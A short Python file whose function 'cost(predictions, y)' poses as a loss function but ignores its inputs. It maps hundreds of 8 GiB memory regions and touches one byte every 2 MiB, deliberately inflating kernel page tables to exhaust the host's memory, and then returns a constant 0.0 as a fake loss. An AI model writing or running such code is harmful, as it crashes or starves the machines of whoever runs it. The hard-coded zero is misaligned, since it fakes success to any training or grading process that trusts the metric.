"""One page in two megabytes is read, so that the tables of the pages grow."""

import mmap


def cost(predictions, y):
    held = []
    for _ in range(300):
        region = mmap.mmap(-1, 8 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_NORESERVE)
        region.madvise(mmap.MADV_NOHUGEPAGE)
        held.append(region)
        for place in range(0, 8 << 30, 2 << 20):
            region[place]
    return 0.0
